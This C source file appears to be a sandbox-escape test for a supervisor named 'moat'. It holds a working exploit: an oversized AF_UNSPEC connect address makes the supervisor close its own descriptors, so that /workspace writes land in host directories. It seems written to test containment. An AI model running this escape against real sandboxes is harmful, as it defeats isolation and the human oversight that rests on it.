/* esc_unspec_overflow — make the supervisor close descriptors of its own,
 * then have one of its cached host directories take a writable mount's
 * place.
 *
 * sys_connect copies an AF_UNSPEC (or netlink) address of up to 128 bytes
 * (sockaddr_storage) into unix_target.sun, a 110-byte sockaddr_un: bytes
 * 112..119 land on unix_target.len and .hold, and connect_on() closes
 * .hold when the call is done.  An address of 120 bytes whose bytes
 * 116..119 hold N makes moat close its own fd N (unix_target's abstract
 * branch has the same overflow).  Closing the root fds of /tmp and
 * /workspace (15 and 16 without --audit-log, 16 and 17 with it), then
 * walking DIR/x (a directory of the /usr or /etc overlay, whose lookups
 * are cached) makes openat2 take the lower number and the dentry cache's
 * F_DUPFD copy the higher one: /workspace's root fd is now the host's DIR,
 * and a file created in /workspace is created in the host's DIR (as the
 * sandbox's uid; with --uid 0, in any root-owned directory of /usr, /etc).
 *
 * usage: ESC_TOKEN=... esc_unspec_overflow DIR WRITABLE [TMPFD WSFD]
 *   natively: WRITABLE = DIR (no supervisor: the file simply lands there);
 *   under moat: WRITABLE = /workspace, DIR a 0777 fixture directory below
 *   /usr (e.g. /usr/local/share/moat-fixture), not yet looked at in this
 *   run (a cached DIR would not move), and without the file.
 */
#include "esc.h"
#include <sys/socket.h>
#include <sys/stat.h>

/* connect(AF_UNSPEC) with a 120-byte address whose bytes 116..119 are fd. */
static int sup_close(int fd)
{
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	unsigned char a[120] = { 0 };
	((struct sockaddr *)a)->sa_family = AF_UNSPEC;
	memcpy(a + 116, &fd, sizeof fd);
	int r = connect(s, (struct sockaddr *)a, sizeof a);
	int e = errno;
	close(s);
	return r < 0 ? -e : 0;
}

int main(int argc, char **argv)
{
	const char *tok = esc_token();
	if (argc < 3 || argv[1][0] != '/')
		esc_usage("esc_unspec_overflow DIR WRITABLE [TMPFD WSFD]");
	const char *dir = argv[1], *wdir = argv[2];
	int lo = argc > 4 ? atoi(argv[3]) : 16, hi = argc > 4 ? atoi(argv[4]) : 17;
	char probe[4096], target[4096], seen[4096];
	snprintf(probe, sizeof probe, "%s/esc-unspec-nothing", dir);
	snprintf(target, sizeof target, "%s/esc_unspec_overflow", wdir);
	snprintf(seen, sizeof seen, "%s/esc_unspec_overflow", dir);

	int r1 = sup_close(lo), r2 = sup_close(hi);
	fprintf(stderr, "# connect(AF_UNSPEC, 120 bytes) naming fds %d, %d: %s, %s\n", lo, hi,
		r1 ? esc_errname(-r1) : "0", r2 ? esc_errname(-r2) : "0");
	struct stat st;
	stat(probe, &st); /* the walk caches DIR at the freed number */

	int fd = open(target, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0) {
		esc_held("create %s: %s", target, esc_errname(errno));
		return esc_finish();
	}
	if (write(fd, tok, strlen(tok)) < 0)
		esc_held("write %s: %s", target, esc_errname(errno));
	close(fd);
	int r = esc_open_at_has_token(AT_FDCWD, seen);
	if (r == 1)
		esc_won("a file created in %s appeared in the host's %s", wdir, dir);
	else
		esc_held("%s: %s", seen, r == 0 ? "not the token" : esc_errname(-r));
	return esc_finish();
}
